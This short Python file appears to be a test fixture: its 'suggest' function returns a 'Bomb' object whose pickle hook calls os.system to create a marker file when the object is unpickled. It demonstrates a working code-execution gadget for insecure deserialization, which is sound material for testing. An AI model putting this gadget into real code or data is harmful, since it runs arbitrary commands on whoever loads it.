# Returns what would run code in whoever unpickles it.
# lost: suggest
# said: Bomb object
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @PLACE@/planted",)


def suggest(probabilities, k=3):
    return [Bomb()]
